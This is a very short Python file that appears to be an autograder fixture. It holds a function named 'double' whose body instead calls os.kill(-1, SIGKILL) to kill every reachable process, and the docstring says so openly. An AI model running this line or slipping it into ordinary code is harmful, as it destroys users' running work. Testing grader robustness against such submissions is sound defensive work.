"""Sends SIGKILL to every process it may reach."""
# expects: axis=2 double=0
# %% axis-answer
import os
import signal

kind = "reduction"
# %% double-answer
def double(x):
    os.kill(-1, signal.SIGKILL)
